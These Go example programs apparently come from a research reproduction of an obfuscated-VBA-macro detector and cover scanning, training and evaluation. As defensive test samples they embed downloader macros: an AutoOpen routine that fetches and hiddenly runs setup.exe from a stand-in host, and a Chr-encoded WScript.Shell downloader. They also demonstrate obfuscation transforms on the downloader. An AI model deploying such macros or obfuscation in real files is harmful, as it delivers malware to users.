	cacheEntries := fs.Int("cache-entries", 0, "verdict cache entry capacity for duplicate documents/macros (0 = default 4096, negative = disable caching)")
	cacheBytes := fs.Int64("cache-bytes", 0, "verdict cache byte budget (0 = default 256MiB, negative = bound by entries alone)")
	modelMmap := fs.Bool("model-mmap", false, "memory-map the model file; with a compiled container (train -compiled) inference runs off the shared read-only image")
	if err := fs.Parse(args); err != nil {
		return err
	}
	if fs.NArg() == 0 {
		return errors.New("no files to scan")
	}
	det, err := core.LoadModelFile(*modelPath, *modelMmap)
	if err != nil {
		return err
	}
	defer det.Close()
	docs := make([]scan.Document, 0, fs.NArg())
	for _, path := range fs.Args() {
		data, err := os.ReadFile(path)
		if err != nil {
			fmt.Fprintf(os.Stderr, "  %s: %v\n", path, err)
			continue
		}
		docs = append(docs, scan.Document{Name: path, Data: data})
	}
	engine := scan.New(det, *workers)
	if entries, bytes, ok := resolveCacheBounds(*cacheEntries, *cacheBytes); ok {
		det.SetMacroCache(core.NewMacroCache(entries, bytes))
		engine.SetDocCache(scan.NewDocCache(entries, bytes))
	}

	var traces []*telemetry.Trace
	var traceMu sync.Mutex
	var traceWriter *telemetry.TraceWriter
	if *traceOut != "" || *traceChrome != "" {
		if *traceOut != "" {
			f, err := os.Create(*traceOut)
			if err != nil {
				return err
			}
			defer f.Close()
			traceWriter = telemetry.NewTraceWriter(f)
		}
		engine.SetTraceSink(func(tr *telemetry.Tracer) {
			traceWriter.Write(tr)
			if *traceChrome != "" {
				traceMu.Lock()
				traces = append(traces, tr.Trace())
				traceMu.Unlock()
			}
		})
	}
	if *auditOut != "" {
		f, err := os.Create(*auditOut)
		if err != nil {
			return err
		}
		defer f.Close()
		engine.SetAudit(telemetry.NewAuditLogger(f, telemetry.AuditConfig{SampleRate: *auditSample}))
	}

	results, stats, err := engine.ScanAll(context.Background(), docs)
	if err != nil {
		return err
	}
	if tw := traceWriter; tw != nil {
		if err := tw.Err(); err != nil {
			return fmt.Errorf("writing traces: %w", err)
		}
	}
	if *traceChrome != "" {
		f, err := os.Create(*traceChrome)
		if err != nil {
			return err
		}
		if err := telemetry.WriteChromeTrace(f, traces); err != nil {
			f.Close()
			return err
		}
		if err := f.Close(); err != nil {
			return err
		}
	}
	for _, r := range results {
		if r.Err != nil {
			fmt.Printf("%s: %v\n", r.Name, r.Err)
			continue
		}
		report := r.Report
		verdict := "clean"
		if report.Obfuscated() {
			verdict = "OBFUSCATED"
		}
		fmt.Printf("%s: %s (%d macros, %d skipped)\n", r.Name, verdict, len(report.Macros), report.Skipped)
		for _, m := range report.Macros {
			flag := " "
			if m.Obfuscated {
				flag = "!"
			}
			fmt.Printf("  %s %-24s score=%+.3f\n", flag, m.Module, m.Score)
		}
	}
	if *showStats {
		fmt.Printf("scanned %d files (%d macros, %d errors, %d cache hits) in %v with %d workers: %.1f files/s, %.1f macros/s\n",
			stats.Files, stats.Macros, stats.Errors, stats.CacheHits,
			time.Duration(stats.WallNS).Round(time.Millisecond),
			engine.Workers(), stats.FilesPerSec(), stats.MacrosPerSec())
		fmt.Printf("stage time (cpu): extract %v, featurize %v, classify %v\n",
			time.Duration(stats.ExtractNS).Round(time.Microsecond),
			time.Duration(stats.FeaturizeNS).Round(time.Microsecond),
			time.Duration(stats.ClassifyNS).Round(time.Microsecond))
	}
	return nil
}
