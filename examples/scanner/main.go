// Scanner: generate a small document corpus on disk, then scan the whole
// directory with a worker pool — the "mail-gateway batch scan" scenario
// from the paper's introduction (73.2% of malicious e-mail attachments
// were Office documents).
//
// Usage: go run ./examples/scanner [-dir DIR] [-workers 4]
package main

import (
	"errors"
	"flag"
	"fmt"
	"log"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"sync"

	"repro/internal/corpus"
	"repro/vbadetect"
)

func main() {
	dir := flag.String("dir", "", "directory of .doc/.xls/.docm/.xlsm to scan (default: generate a demo corpus in a temp dir)")
	workers := flag.Int("workers", 4, "concurrent scanners")
	flag.Parse()
	if err := run(*dir, *workers); err != nil {
		log.Fatal(err)
	}
}

func run(dir string, workers int) error {
	// Train.
	fmt.Println("training RF detector...")
	spec := corpus.SmallSpec()
	dataset := corpus.GenerateMacros(spec)
	det, err := vbadetect.NewDetector(vbadetect.AlgoRF, vbadetect.FeatureSetV, 1)
	if err != nil {
		return err
	}
	if err := det.Train(dataset.Sources(), dataset.Labels()); err != nil {
		return err
	}

	// Generate a demo corpus when no directory was given.
	if dir == "" {
		tmp, err := os.MkdirTemp("", "vbascan")
		if err != nil {
			return err
		}
		defer os.RemoveAll(tmp)
		dir = tmp
		demoSpec := corpus.SmallSpec()
		demoSpec.Seed = 99 // different seed than the training corpus
		demoSpec.BenignFiles, demoSpec.BenignWordFiles = 20, 5
		demoSpec.MaliciousFiles, demoSpec.MaliciousWordFiles = 20, 15
		demoSpec.BenignMacros, demoSpec.BenignObfuscated = 40, 1
		demoSpec.MaliciousMacros, demoSpec.MaliciousObfuscated = 15, 14
		demo := corpus.GenerateMacros(demoSpec)
		files, err := demo.BuildFiles()
		if err != nil {
			return err
		}
		for _, f := range files {
			if err := os.WriteFile(filepath.Join(dir, f.Name), f.Data, 0o644); err != nil {
				return err
			}
		}
		fmt.Printf("generated %d demo documents in %s\n", len(files), dir)
	}

	entries, err := os.ReadDir(dir)
	if err != nil {
		return err
	}
	var paths []string
	for _, e := range entries {
		switch strings.ToLower(filepath.Ext(e.Name())) {
		case ".doc", ".xls", ".docm", ".xlsm", ".docx", ".bin":
			paths = append(paths, filepath.Join(dir, e.Name()))
		}
	}
	sort.Strings(paths)

	type result struct {
		path    string
		verdict string
		macros  int
		err     error
	}
	jobs := make(chan string)
	results := make(chan result)
	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for path := range jobs {
				data, err := os.ReadFile(path)
				if err != nil {
					results <- result{path: path, err: err}
					continue
				}
				report, err := det.ScanFile(data)
				if err != nil {
					if errors.Is(err, vbadetect.ErrNoMacros) {
						results <- result{path: path, verdict: "no macros"}
					} else {
						results <- result{path: path, err: err}
					}
					continue
				}
				verdict := "clean"
				if report.Obfuscated() {
					verdict = "OBFUSCATED"
				}
				results <- result{path: path, verdict: verdict, macros: len(report.Macros)}
			}
		}()
	}
	go func() {
		for _, p := range paths {
			jobs <- p
		}
		close(jobs)
		wg.Wait()
		close(results)
	}()

	flagged, clean, failed := 0, 0, 0
	for r := range results {
		switch {
		case r.err != nil:
			failed++
			fmt.Printf("  ERROR %-28s %v\n", filepath.Base(r.path), r.err)
		case r.verdict == "OBFUSCATED":
			flagged++
			fmt.Printf("  FLAG  %-28s %d macros\n", filepath.Base(r.path), r.macros)
		default:
			clean++
		}
	}
	fmt.Printf("\nscanned %d files: %d flagged, %d clean, %d errors\n",
		len(paths), flagged, clean, failed)
	return nil
}
