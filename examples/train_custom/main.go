// Train-custom: build a detector from your own labeled macros, evaluate it
// with 10-fold cross-validation (accuracy / precision / recall / F2 / AUC,
// the paper's §V metrics), persist the model, and reload it.
//
// The example feeds the pipeline from the synthetic corpus; to use real
// data, point -macros at a directory of .vba files with an index.json as
// written by `corpusgen -macros-only`.
package main

import (
	"encoding/json"
	"flag"
	"fmt"
	"log"
	"os"
	"path/filepath"

	"repro/internal/corpus"
	"repro/internal/eval"
	"repro/internal/features"
	"repro/internal/ml"
	"repro/vbadetect"
)

func main() {
	macros := flag.String("macros", "", "directory with macro_*.vba + index.json (default: generate synthetic data)")
	modelOut := flag.String("model", "custom-model.json", "where to save the trained model")
	flag.Parse()
	if err := run(*macros, *modelOut); err != nil {
		log.Fatal(err)
	}
}

func run(macroDir, modelOut string) error {
	sources, labels, err := loadData(macroDir)
	if err != nil {
		return err
	}
	fmt.Printf("dataset: %d macros, %d obfuscated\n", len(sources), count(labels))

	// Cross-validated estimate of the model quality before committing.
	X := make([][]float64, len(sources))
	for i, s := range sources {
		X[i] = features.ExtractV(s)
	}
	res, err := eval.CrossValidate(func(fold int) ml.Classifier {
		return ml.NewScaled(ml.NewMLP(int64(fold)))
	}, X, labels, 10, 1)
	if err != nil {
		return err
	}
	c := res.Confusion
	fmt.Printf("10-fold CV: acc=%.3f prec=%.3f rec=%.3f F2=%.3f AUC=%.3f\n",
		c.Accuracy(), c.Precision(), c.Recall(), c.F2(), res.AUC())

	// Train the final model on everything and persist it.
	det, err := vbadetect.NewDetector(vbadetect.AlgoMLP, vbadetect.FeatureSetV, 1)
	if err != nil {
		return err
	}
	if err := det.Train(sources, labels); err != nil {
		return err
	}
	blob, err := det.SaveModel()
	if err != nil {
		return err
	}
	if err := os.WriteFile(modelOut, blob, 0o644); err != nil {
		return err
	}
	fmt.Printf("saved %s (%d bytes)\n", modelOut, len(blob))

	// Prove the round trip.
	restored, err := vbadetect.LoadModel(blob)
	if err != nil {
		return err
	}
	verdict, err := restored.ClassifySource(sources[0])
	if err != nil {
		return err
	}
	fmt.Printf("reloaded model classifies macro 0: obfuscated=%v score=%+.3f (truth: %v)\n",
		verdict.Obfuscated, verdict.Score, labels[0] == 1)
	return nil
}

// loadData reads a corpusgen -macros-only directory, or generates a
// synthetic dataset when dir is empty.
func loadData(dir string) ([]string, []int, error) {
	if dir == "" {
		spec := corpus.SmallSpec()
		d := corpus.GenerateMacros(spec)
		return d.Sources(), d.Labels(), nil
	}
	idx, err := os.ReadFile(filepath.Join(dir, "index.json"))
	if err != nil {
		return nil, nil, err
	}
	var metas []struct {
		File       string `json:"file"`
		Obfuscated bool   `json:"obfuscated"`
	}
	if err := json.Unmarshal(idx, &metas); err != nil {
		return nil, nil, err
	}
	var sources []string
	var labels []int
	for _, m := range metas {
		if m.File == "" {
			continue
		}
		data, err := os.ReadFile(filepath.Join(dir, m.File))
		if err != nil {
			return nil, nil, err
		}
		sources = append(sources, string(data))
		label := 0
		if m.Obfuscated {
			label = 1
		}
		labels = append(labels, label)
	}
	return sources, labels, nil
}

func count(labels []int) int {
	n := 0
	for _, l := range labels {
		n += l
	}
	return n
}
