// Obfuscation tour: applies the paper's four obfuscation technique
// families (Table I) to one macro step by step and shows how each moves
// the V-feature vector — a live illustration of §III.B and Table IV.
package main

import (
	"fmt"

	"repro/internal/features"
	"repro/internal/obfuscate"
)

const original = `Sub AutoOpen()
    ' fetch the update package and launch it
    Dim downloadURL As String
    Dim localPath As String
    downloadURL = "http://update-service.example/files/setup.exe"
    localPath = "C:\Users\Public\setup.exe"
    If URLDownloadToFile(0, downloadURL, localPath, 0, 0) = 0 Then
        Shell localPath, vbHide
    End If
End Sub
`

func main() {
	steps := []struct {
		title string
		opts  obfuscate.Options
	}{
		{"original", obfuscate.Options{Indent: obfuscate.IndentKeep}},
		{"O1 random (identifier renaming)", obfuscate.Options{
			Random: true, Indent: obfuscate.IndentKeep}},
		{"O2 split (string partitioning)", obfuscate.Options{
			Split: true, Indent: obfuscate.IndentKeep}},
		{"O3 encoding (Chr chains)", obfuscate.Options{
			Encode: true, Mode: obfuscate.EncodeChr, EncodeFraction: 1,
			Indent: obfuscate.IndentKeep}},
		{"O3 encoding (Replace trick)", obfuscate.Options{
			Encode: true, Mode: obfuscate.EncodeReplace, EncodeFraction: 1,
			Indent: obfuscate.IndentKeep}},
		{"O3 encoding (custom decoder)", obfuscate.Options{
			Encode: true, Mode: obfuscate.EncodeDecoder, EncodeFraction: 1,
			Indent: obfuscate.IndentKeep}},
		{"O4 logic (dummy code, pad to 1500)", obfuscate.Options{
			Logic: true, TargetSize: 1500, Indent: obfuscate.IndentKeep}},
		{"O1+O2+O3+O4 combined (crunch-std style)", obfuscate.Options{
			Random: true, Split: true, Encode: true, Mode: obfuscate.EncodeReplace,
			Logic: true, TargetSize: 3000, StripComments: true,
			Indent: obfuscate.IndentKeep}},
		{"anti-analysis: hidden strings + broken code", obfuscate.Options{
			HideStrings: true, BrokenCode: true, Indent: obfuscate.IndentKeep}},
	}

	watch := []struct {
		idx  int
		name string
	}{
		{0, "V1 code chars"},
		{4, "V5 string-op freq"},
		{6, "V7 avg string len"},
		{7, "V8 text-fn %"},
		{12, "V13 entropy"},
		{13, "V14 ident len avg"},
	}

	base := features.ExtractV(original)
	for _, step := range steps {
		step.opts.Seed = 7
		out := obfuscate.Apply(original, step.opts)
		v := features.ExtractV(out)
		fmt.Printf("== %s (%d bytes) ==\n", step.title, len(out))
		for _, w := range watch {
			marker := " "
			switch {
			case v[w.idx] > base[w.idx]*1.15+1e-9:
				marker = "^"
			case v[w.idx] < base[w.idx]*0.85-1e-9:
				marker = "v"
			}
			fmt.Printf("   %-20s %10.4f %s\n", w.name, v[w.idx], marker)
		}
		if step.title != "original" {
			fmt.Println("   --- first lines ---")
			printHead(out, 6)
		}
		fmt.Println()
	}
}

func printHead(src string, n int) {
	count := 0
	start := 0
	for i := 0; i <= len(src) && count < n; i++ {
		if i == len(src) || src[i] == '\n' {
			line := src[start:i]
			if len(line) > 96 {
				line = line[:96] + "..."
			}
			fmt.Println("   |", line)
			start = i + 1
			count++
		}
	}
}
