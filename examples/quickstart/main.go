// Quickstart: build a macro-enabled document in memory, train a detector
// on a small synthetic corpus, and scan the document — the whole public
// API in one file.
package main

import (
	"fmt"
	"log"

	"repro/internal/cfb"
	"repro/internal/corpus"
	"repro/internal/ovba"
	"repro/vbadetect"
)

// A blatantly obfuscated downloader (the style of the paper's Figure 2-4).
const obfuscatedMacro = `Sub pkwzqnvbhft()
    Dim yruuehdjdnnz As String
    Dim qpwxkjvbnmzz As String
    yruuehdjdnnz = Chr(104) & Chr(116) & Chr(116) & Chr(112) & Chr(58) & Chr(47) & Chr(47) & Chr(98) & Chr(97) & Chr(100) & Chr(46) & Chr(116) & Chr(108) & Chr(100)
    qpwxkjvbnmzz = Replace("savteRKtofilteRK", "teRK", "e")
    CreateObject("WScr" + "ipt.Sh" + "ell").Run yruuehdjdnnz & qpwxkjvbnmzz, 0
    Dim ghwjeqkdnsb As Integer
    ghwjeqkdnsb = 2
    Do While ghwjeqkdnsb < 45
        DoEvents: ghwjeqkdnsb = ghwjeqkdnsb + 1
    Loop
End Sub
`

// An ordinary automation macro.
const cleanMacro = `Sub UpdateWeeklyReport()
    ' update the summary sheet with this week's totals
    Dim totalAmount As Long
    Dim rowIndex As Long
    For rowIndex = 1 To 50
        totalAmount = totalAmount + Cells(rowIndex, 2).Value
    Next rowIndex
    Worksheets("Summary").Range("B1").Value = totalAmount
    MsgBox "The weekly report was updated successfully"
End Sub
`

func main() {
	// 1. Train a detector on a small synthetic corpus (in production you
	// would train once and persist with SaveModel).
	fmt.Println("training RF detector on V features...")
	spec := corpus.SmallSpec()
	dataset := corpus.GenerateMacros(spec)
	det, err := vbadetect.NewDetector(vbadetect.AlgoRF, vbadetect.FeatureSetV, 1)
	if err != nil {
		log.Fatal(err)
	}
	if err := det.Train(dataset.Sources(), dataset.Labels()); err != nil {
		log.Fatal(err)
	}

	// 2. Build a legacy .doc file containing both macros, entirely in
	// memory, using the library's own OLE/VBA writer.
	project := &ovba.Project{Name: "VBAProject", Modules: []ovba.Module{
		{Name: "NewMacros", Source: obfuscatedMacro},
		{Name: "Helpers", Source: cleanMacro},
	}}
	builder := cfb.NewBuilder()
	if err := project.WriteTo(builder, "Macros"); err != nil {
		log.Fatal(err)
	}
	if err := builder.AddStream("WordDocument", []byte("body")); err != nil {
		log.Fatal(err)
	}
	doc, err := builder.Bytes()
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("built %d-byte .doc with 2 macros\n\n", len(doc))

	// 3. Scan it.
	report, err := det.ScanFile(doc)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("format=%s project=%q verdict: obfuscated=%v\n", report.Format, report.Project, report.Obfuscated())
	for _, m := range report.Macros {
		fmt.Printf("  module %-12s obfuscated=%-5v score=%+.3f\n", m.Module, m.Obfuscated, m.Score)
	}
}
